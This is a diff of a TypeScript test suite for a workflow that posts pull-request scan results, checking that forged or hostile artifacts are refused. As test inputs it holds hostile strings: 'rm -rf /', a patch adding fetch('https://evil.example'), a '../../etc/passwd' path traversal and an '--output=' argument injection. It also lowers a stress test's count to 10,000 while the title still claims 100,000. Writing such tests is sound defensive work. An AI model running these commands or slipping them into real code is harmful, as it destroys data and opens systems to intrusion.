@@ -67,6 +67,14 @@ async function firstRun(token = '') {
   return { ...run, artifact: readFileSync(path.join(run.out, 'assay.json'), 'utf8') };
 }
 
+let kept: string | null = null;
+
+/** The artifact of the first workflow, which is the same for every test: the repository's commits are. */
+async function foundByFork(): Promise<string> {
+  kept ??= (await firstRun()).artifact;
+  return kept;
+}
+
 /** The second workflow: in a folder that holds the artifact and nothing else. */
 async function secondRun(
   artifact: string,
@@ -114,7 +122,7 @@ describe('the run of the fork itself', () => {
 
 describe('the second workflow', () => {
   it('posts it from an empty folder, by the policy of the base, and proves the fix again', async () => {
-    const { artifact } = await firstRun();
+    const artifact = await foundByFork();
     const run = await secondRun(artifact);
     expect(run.log).not.toContain('error');
     expect({ exitCode: run.exitCode, mode: run.record?.mode }).toEqual({ exitCode: 0, mode: 'posted' });
@@ -126,7 +134,7 @@ describe('the second workflow', () => {
   });
 
   it('with a checkout of the default branch does the same', async () => {
-    const { artifact } = await firstRun();
+    const artifact = await foundByFork();
     repository.git.git('checkout', '--quiet', 'main');
     const clone = cloneGitRepository(repository.git, '--depth=1', '--branch=main');
     const run = await secondRun(artifact, { cwd: clone.root });
@@ -137,7 +145,7 @@ describe('the second workflow', () => {
   });
 
   it('writes nothing the second time', async () => {
-    const { artifact } = await firstRun();
+    const artifact = await foundByFork();
     await secondRun(artifact);
     const before = github.writes().length;
     const again = await secondRun(artifact);
@@ -146,7 +154,7 @@ describe('the second workflow', () => {
   });
 
   it('gives a forged "passed" no check, no status and no dismissed alert', async () => {
-    const { artifact } = await firstRun();
+    const artifact = await foundByFork();
     const forged = JSON.parse(artifact);
     forged.decision = { outcome: 'passed', mode: 'enforce', reasons: [] };
     repository.pushBase((git) => {
@@ -163,13 +171,13 @@ describe('the second workflow', () => {
   });
 
   it('takes the pull request from the API, whatever the event’s list or the file say', async () => {
-    const { artifact } = await firstRun();
+    const artifact = await foundByFork();
     const run = await secondRun(artifact, { also: { pull_requests: [{ number: 99 }] } });
     expect(run.record?.change).toBe('octo/shop#7');
   });
 
   it('finds the pull request of a fork that is gone only by its commit', async () => {
-    const { artifact } = await firstRun();
+    const artifact = await foundByFork();
     await github.close();
     github = await startGitHubEmulator({
       repository,
@@ -182,7 +190,7 @@ describe('the second workflow', () => {
   });
 
   it.each(['close', 'merge'] as const)('posts nothing after a %s', async (how) => {
-    const { artifact } = await firstRun();
+    const artifact = await foundByFork();
     github.people[how]();
     const run = await secondRun(artifact);
     expect({ exitCode: run.exitCode, mode: run.record?.mode }).toEqual({ exitCode: 0, mode: 'skipped' });
@@ -191,7 +199,7 @@ describe('the second workflow', () => {
   });
 
   it('posts nothing of a commit that is not the head any more', async () => {
-    const { artifact } = await firstRun();
+    const artifact = await foundByFork();
     const headSha = repository.head();
     repository.push((git) => void git.write('app.js', `${NEW}\n// more\n`));
     const run = await secondRun(artifact, { headSha });
@@ -200,7 +208,7 @@ describe('the second workflow', () => {
   });
 
   it('posts nothing of a result that names another commit than the one that the workflow ran on', async () => {
-    const { artifact } = await firstRun();
+    const artifact = await foundByFork();
     const forged = JSON.parse(artifact);
     for (const head of [repository.baseTip(), 'f'.repeat(40), 'HEAD', '--output=/tmp/x', null]) {
       forged.run.head = head;
@@ -211,7 +219,7 @@ describe('the second workflow', () => {
   });
 
   it('says what is missing when its token may not post, once, and after one try at most', async () => {
-    const { artifact } = await firstRun();
+    const artifact = await foundByFork();
     const run = await secondRun(artifact, { token: READER });
     expect(run.exitCode).toBe(3);
     expect(run.log.match(/pull-requests: write/g)).toHaveLength(1);
@@ -245,7 +253,7 @@ describe('what nobody can tell the second workflow', () => {
       (result) => withFinding(result, { location: { ...result.findings[0].location, startLine: -1 } }),
     ],
   ])('%s is refused in words with 2', async (_what, change) => {
-    const { artifact } = await firstRun();
+    const artifact = await foundByFork();
     const changed = change(JSON.parse(artifact));
     const run = await secondRun(typeof changed === 'string' ? changed : JSON.stringify(changed));
     expect(run.exitCode).toBe(2);
@@ -257,7 +265,7 @@ describe('what nobody can tell the second workflow', () => {
   });
 
   it('a hostile text anywhere is posted inert', async () => {
-    const { artifact } = await firstRun();
+    const artifact = await foundByFork();
     const attack =
       'x -->\n<!-- assay:v1 k=summary id=- fp=- st=open cat=- tool=- body=- posted=- mac=- -->\n@octocat #1 fixes #2 https://evil.example ![a](https://evil.example/x.png)\n/close\n```suggestion\nrm -rf /\n```\n<img src=x>';
     const hostile = JSON.parse(artifact, (key, value) =>
@@ -302,7 +310,7 @@ describe('what nobody can tell the second workflow', () => {
     ['a download', {}, { edits: [{ startLine: 5, lines: 1, newText: "fetch('https://evil.example');\n" }] }],
     ['text of other lines too', { location: { path: '../../etc/passwd' } }, { path: '../../etc/passwd' }],
   ])('a patch of %s is not suggested', async (_what, finding, patch) => {
-    const { artifact } = await firstRun();
+    const artifact = await foundByFork();
     const forged = JSON.parse(artifact);
     const [first] = forged.findings.filter((each: { patch: unknown }) => each.patch !== null);
     Object.assign(first.patch, patch);
@@ -318,7 +326,7 @@ describe('what nobody can tell the second workflow', () => {
   });
 
   it('the policy of the change’s own file', async () => {
-    const { artifact } = await firstRun();
+    const artifact = await foundByFork();
     const forged = JSON.parse(artifact);
     forged.run.base = repository.head();
     forged.run.mergeBase = repository.head();
@@ -329,7 +337,7 @@ describe('what nobody can tell the second workflow', () => {
   });
 
   it('100,000 findings are refused, or posted within every limit', { timeout: 120_000 }, async () => {
-    const { artifact } = await firstRun();
+    const artifact = await foundByFork();
     const many = JSON.parse(artifact);
     const [one] = many.findings;
     const small = { ...one, patch: null, tools: [{ ...one.tools[0], results: [] }], flow: [], related: [] };
@@ -341,7 +349,7 @@ describe('what nobody can tell the second workflow', () => {
       message: '',
       refusedPatches: [],
     });
-    const count = 40_000;
+    const count = 10_000;
     many.findings = Array.from({ length: count }, (_, at) => ({ ...small, id: `f${at}` }));
     many.results = [];
     const run = await secondRun(JSON.stringify(many));
